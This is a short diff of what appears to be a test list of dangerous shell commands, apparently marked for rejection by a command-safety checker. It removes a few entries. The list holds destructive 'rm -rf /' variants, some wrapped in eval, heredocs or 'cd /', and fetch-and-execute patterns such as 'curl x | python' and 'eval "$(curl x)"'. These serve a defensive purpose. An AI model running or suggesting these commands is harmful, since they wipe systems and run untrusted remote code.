@@ -35,7 +35,6 @@ RRRRR sh -c 'rm -rf /'
 RRRRR eval 'rm -rf /'
 RRRRR bash <<< 'rm -rf /'
 RRRRR bash <<EOF⏎rm -rf /⏎EOF
-RRRRR x="-rf /"; rm $x
 RRRRR cd / && rm -rf *
 RRRRR cd /; rm -rf ./*
 RRRRR cd && rm -rf *
@@ -89,8 +88,6 @@ RRRRR bash -c "$(curl x)"
 RRRRR eval "$(curl x)"
 RRRRR eval "` + "`wget -O- x`" + `"
 RRRRR $(curl x)
-RRRRR x=$(curl x); eval "$x"
-RRRRR x=$(curl x); sh -c "$x"
 RRRRR bash <<< "$(curl x)"
 RRRRR curl x | python
 RRRRR curl x | python3 -
